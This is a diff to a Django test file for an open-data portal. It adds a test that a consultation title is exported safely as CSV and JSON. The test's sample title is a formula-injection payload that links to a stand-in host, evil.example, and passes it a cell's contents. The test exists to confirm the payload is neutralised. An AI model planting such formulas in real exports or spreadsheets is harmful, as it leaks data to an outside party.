@@ -3,19 +3,27 @@ catalogue passes the DCAT-AP 3.0.1 SHACL shapes; every dataset's CSV passes its 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
 import pyshacl
 import pytest
 import rdflib
+from django.conf import settings as django_settings
 from django.test import Client
+from django.utils import timezone
 from frictionless import Resource, Schema, validate
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from gov3.accounts.models import Agency, OfficerRole
+from gov3.accounts.services import do_create_officer_account
 from gov3.opendata.core.suppression import suppress_counts, suppress_sums
 from gov3.opendata.datasets import DATASETS
+from tests.conftest import ACTOR, PASSWORD
+from tests.participation.test_consultations import open_draft
 
 SHAPES = Path(__file__).resolve().parents[2] / "src" / "gov3" / "opendata" / "shapes"
 THRESHOLD = 5
@@ -120,3 +128,32 @@ def test_every_dataset_csv_passes_its_table_schema(
 def test_an_unknown_dataset_is_not_found(client: Client) -> None:
     assert client.get("/open-data/datasets/nothing.csv").status_code == 404
     assert client.get("/api/v1/open-data/datasets/nothing").status_code == 404
+
+
+@pytest.mark.django_db
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_downloaded_as_text(
+    client: Client, welfare_agency: Agency
+) -> None:
+    """An officer's consultation title is published as open data: in the CSV it cannot run as
+    a formula (a leading `'`), in the JSON it stays as written."""
+    officer = do_create_officer_account(
+        ACTOR,
+        username="welfare",
+        password=PASSWORD,
+        agency=welfare_agency,
+        role=OfficerRole.WELFARE_OFFICER,
+    )[0]
+    title = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    open_draft(
+        officer,
+        Path(django_settings.GOV3_COUNTRIES_DIR) / "kr",
+        day=timezone.localdate(),
+        title=title,
+    )
+    slug = "consultation-participation"
+    text = client.get(f"/open-data/datasets/{slug}.csv").content.decode()
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["title"] == "'" + title
+    assert row["support"] == "0"  # numbers are written as they are
+    [published] = json.loads(client.get(f"/open-data/datasets/{slug}.json").content)["rows"]
+    assert published["title"] == title
